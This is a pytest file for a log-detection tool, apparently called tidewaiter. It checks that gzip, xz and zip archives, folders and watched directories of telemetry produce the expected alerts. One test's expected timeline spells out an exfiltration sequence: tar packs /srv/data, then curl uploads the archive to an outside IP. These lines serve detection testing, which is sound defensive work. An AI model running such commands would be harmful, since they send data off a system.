"""Telemetry handed over the way it is kept: a ``.gz`` file and a folder in ``detect``,
``investigate`` (from another folder) and ``watch`` (a real process), process substitution, and
the sentences said when nothing fits."""

from __future__ import annotations

import gzip
import json
import lzma
import shutil
import subprocess
import sys
import zipfile
from pathlib import Path

import pytest

from tests.watch.harness import Watch, jsonl_alerts, poll
from tidewaiter.alerts import evidence_ref
from tidewaiter.cli.main import main
from tidewaiter.sources.opening import MAX_MEMBERS

SCENARIO = Path(__file__).resolve().parents[2] / "scenarios" / "attack"
ZEEK_PAIR = SCENARIO / "atomic-t1560-001-linux-openssl-base64-zeek"  # falco.jsonl + conn.log
ECS = Path(__file__).resolve().parents[1] / "fixtures" / "ecs" / "auditbeat_auditd_container.ndjson"


def uids(out: str) -> list[str]:
    return sorted(json.loads(line)["finding_info"]["uid"] for line in out.splitlines() if line)


def plain_alerts(capsys: pytest.CaptureFixture[str], *paths: Path) -> list[str]:
    assert main(["detect", "--json", *map(str, paths)]) == 0
    found = uids(capsys.readouterr().out)
    assert found
    return found


def gzipped(source: Path, target: Path) -> Path:
    target.write_bytes(gzip.compress(source.read_bytes()))
    return target


def test_a_gz_file_and_a_folder_give_the_alerts_of_the_plain_files(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    expected = plain_alerts(capsys, ZEEK_PAIR / "falco.jsonl", ZEEK_PAIR / "conn.log")
    folder = tmp_path / "collected"
    (folder / "zeek").mkdir(parents=True)
    gzipped(ZEEK_PAIR / "conn.log", folder / "zeek" / "conn.log.1.gz")
    shutil.copy(ZEEK_PAIR / "falco.jsonl", folder / "falco.jsonl")
    (folder / "README.txt").write_text("collected by ops\n")
    assert main(["detect", "--json", str(folder)]) == 0  # the README is passed over, not fatal
    captured = capsys.readouterr()
    assert uids(captured.out) == expected
    assert f"not read: {folder / 'README.txt'}: not in a format" in captured.err
    # Every evidence names its file by its absolute path.
    for line in captured.out.splitlines():
        for evidence in json.loads(line)["evidences"]:
            assert Path(evidence_ref(evidence)["path"]).is_absolute()


def test_investigate_reads_the_gz_from_any_folder(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    work = tmp_path / "work"
    work.mkdir()
    gzipped(ECS, work / "auditbeat.ndjson.gz")
    monkeypatch.chdir(work)
    assert (
        main(["detect", "--json", "--db", str(tmp_path / "tw.duckdb"), "auditbeat.ndjson.gz"]) == 0
    )
    (uid,) = uids(capsys.readouterr().out)
    monkeypatch.chdir(tmp_path)  # elsewhere: the alert's own paths must still lead to the file
    assert main(["investigate", uid[:12], "--db", str(tmp_path / "tw.duckdb"), "--json"]) == 0
    context = json.loads(capsys.readouterr().out)["context"]
    assert context["paths"] == [str(work / "auditbeat.ndjson.gz")]
    assert [entry["what"] for entry in context["timeline"]][:2] == [
        "exec tar czf /tmp/ledger.tgz /srv/data",
        "exec curl -sS -T /tmp/ledger.tgz https://203.0.113.50/upload",
    ]


def test_process_substitution_is_read_without_seeking(tmp_path: Path) -> None:
    bash = shutil.which("bash")
    if bash is None:
        pytest.skip("bash is not installed")
    packed = gzipped(ECS, tmp_path / "auditbeat.ndjson.gz")
    script = '"$0" -m tidewaiter detect --json <(cat "$1")'
    done = subprocess.run(
        [bash, "-c", script, sys.executable, str(packed)],
        capture_output=True,
        text=True,
        timeout=120,
        check=False,
    )
    assert done.returncode == 0, done.stderr
    assert len(uids(done.stdout)) == 1


def test_watch_reads_a_folder_with_a_rotated_gz_once(tmp_path: Path) -> None:
    folder = tmp_path / "logs"
    folder.mkdir()
    gzipped(ECS, folder / "auditbeat.ndjson.1.gz")
    out = tmp_path / "alerts.jsonl"
    args = [str(folder), "--db", str(tmp_path / "tw.duckdb"), "--out", str(out)]
    args += ["--idle-flush", "0.5", "--checkpoint-interval", "0.2"]
    with Watch(args, tmp_path).start() as watch:
        watch.wait_for("watching 1 input(s)")
        # A compressed file is finished: read once. The folder is still watched for new files.
        poll(lambda: jsonl_alerts(out), 60, "the alert")
        assert watch.stop() == 0
    first = jsonl_alerts(out)
    assert len(first) == 1
    assert first[0]["finding_info"]["analytic"]["uid"] == "tw-archive-exfil"
    assert evidence_ref(first[0]["evidences"][0])["path"] == str(folder / "auditbeat.ndjson.1.gz")
    # A restart does not read it again.
    with Watch(args, tmp_path).start() as watch:
        watch.wait_for("resuming from the checkpoint")
        watch.wait_for("watching 1 input(s)")
        assert watch.stop() == 0
    assert len(jsonl_alerts(out)) == 1


def test_watch_follows_the_plain_files_of_a_folder(tmp_path: Path) -> None:
    folder = tmp_path / "logs"
    folder.mkdir()
    growing = folder / "auditbeat.ndjson"
    lines = ECS.read_bytes().splitlines(keepends=True)
    growing.write_bytes(lines[0])
    out = tmp_path / "alerts.jsonl"
    args = [str(folder), "--db", str(tmp_path / "tw.duckdb"), "--out", str(out)]
    args += ["--idle-flush", "0.5"]
    with Watch(args, tmp_path).start() as watch:
        watch.wait_for("watching 1 input(s)")
        with growing.open("ab") as stream:
            stream.write(b"".join(lines[1:]))
        poll(lambda: jsonl_alerts(out), 60, "the alert")
        assert watch.stop() == 0
    assert len(jsonl_alerts(out)) == 1


def test_forced_format_that_gives_nothing_says_why(
    capsys: pytest.CaptureFixture[str],
) -> None:
    assert main(["detect", "--format", "zeek", str(ECS)]) == 0
    err = capsys.readouterr().err
    assert (
        f"{ECS}: --format zeek gave no event from this file; the commonest reason (3 records): "
        "in another format, Elastic Common Schema" in err
    )


def zipped(target: Path, members: dict[str, bytes], method: int = zipfile.ZIP_DEFLATED) -> Path:
    with zipfile.ZipFile(target, "w", compression=method) as archive:
        for name, data in members.items():
            archive.writestr(name, data)
    return target


def test_a_zip_archive_gives_the_alerts_of_its_members(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    # Public datasets (OTRF Security-Datasets) ship as zip archives: read, not refused.
    expected = plain_alerts(capsys, ZEEK_PAIR / "falco.jsonl", ZEEK_PAIR / "conn.log")
    archive = zipped(
        tmp_path / "dataset.zip",
        {
            "dataset/falco.jsonl": (ZEEK_PAIR / "falco.jsonl").read_bytes(),
            "dataset/zeek/conn.log.gz": gzip.compress((ZEEK_PAIR / "conn.log").read_bytes()),
            "dataset/LICENSE": b"MIT\n",
            "__MACOSX/dataset/._falco.jsonl": b"\x00\x05\x16\x07",
        },
    )
    db = str(tmp_path / "tw.duckdb")
    assert main(["detect", "--json", "--db", db, str(archive)]) == 0
    captured = capsys.readouterr()
    assert uids(captured.out) == expected
    assert f"not read: {archive}!/dataset/LICENSE: not in a format" in captured.err
    assert "__MACOSX" not in captured.err
    paths = {
        evidence_ref(evidence)["path"]
        for line in captured.out.splitlines()
        for evidence in json.loads(line)["evidences"]
    }
    assert f"{archive}!/dataset/falco.jsonl" in paths
    # The evidence's path leads investigate back into the archive, from any folder.
    monkeypatch.chdir(tmp_path.parent)
    assert main(["investigate", expected[0][:12], "--db", db, "--json"]) == 0
    context = json.loads(capsys.readouterr().out)["context"]
    assert f"{archive}!/dataset/falco.jsonl" in context["paths"]
    assert context["timeline"]


def test_a_damaged_or_locked_zip_is_named_with_the_reason(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    torn = tmp_path / "torn.zip"
    whole = zipped(
        tmp_path / "whole.zip", {"falco.jsonl": (ZEEK_PAIR / "falco.jsonl").read_bytes()}
    )
    torn.write_bytes(whole.read_bytes()[:200])  # the header is there, the directory is not
    assert main(["detect", str(torn)]) == 2
    err = capsys.readouterr().err
    assert f"{torn}: a zip archive, but its directory cannot be read" in err
    # A member that is not there (an alert's path to an archive replaced since).
    assert main(["detect", f"{whole}!/gone.jsonl"]) == 2
    assert f"{whole}!/gone.jsonl: cannot read (no member gone.jsonl in the zip archive)" in (
        capsys.readouterr().err
    )


def test_a_zip_of_very_many_files_is_read_in_part_and_says_so(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    many = {f"part-{n:05d}.ndjson": b"" for n in range(MAX_MEMBERS + 5)}
    archive = zipped(tmp_path / "many.zip", {**many, "part-99999.ndjson": ECS.read_bytes()})
    assert main(["detect", "--json", str(archive)]) == 2  # the one with records is past the cap
    err = capsys.readouterr().err
    assert f"{archive}: a zip archive of {MAX_MEMBERS + 6} files; the first {MAX_MEMBERS}" in err


def test_watch_reads_the_members_of_a_zip_once(tmp_path: Path) -> None:
    folder = tmp_path / "drop"
    folder.mkdir()
    zipped(folder / "day1.zip", {"auditbeat.ndjson": ECS.read_bytes()})
    out = tmp_path / "alerts.jsonl"
    args = [str(folder), "--db", str(tmp_path / "tw.duckdb"), "--out", str(out)]
    args += ["--idle-flush", "0.5", "--checkpoint-interval", "0.2"]
    for _ in range(2):  # the second run resumes, and reads nothing again
        with Watch(args, tmp_path).start() as watch:
            watch.wait_for("watching 1 input(s)")
            poll(lambda: jsonl_alerts(out), 60, "the alert")
            assert watch.stop() == 0
        [alert] = jsonl_alerts(out)
    ref = evidence_ref(alert["evidences"][0])["path"]
    assert ref == f"{folder / 'day1.zip'}!/auditbeat.ndjson"


def test_baseline_learn_reads_a_folder_of_compressed_files(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    folder = tmp_path / "history"
    folder.mkdir()
    gzipped(ECS, folder / "day1.ndjson.gz")
    (folder / "day2.ndjson.xz").write_bytes(lzma.compress(ECS.read_bytes()))
    (folder / "NOTES").write_text("two days of auditbeat\n")
    db = str(tmp_path / "tw.duckdb")
    assert main(["baseline", "learn", "--db", db, str(folder)]) == 0
    err = capsys.readouterr().err
    assert "read 6 records from 2 file(s): 6 events" in err
    assert f"not read: {folder / 'NOTES'}: not in a format" in err
    assert "learned 1 workload baseline(s)" in err


def test_nothing_fits_says_what_came_closest(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    elastic = tmp_path / "app.json"
    elastic.write_text('{"@timestamp":"2024-01-01T00:00:00Z","message":"hello"}\n')
    assert main(["detect", str(elastic)]) == 2
    assert (
        f"{elastic}: looks like an Elastic document, but it has no event.* or ecs fields to say "
        "what happened" in capsys.readouterr().err
    )
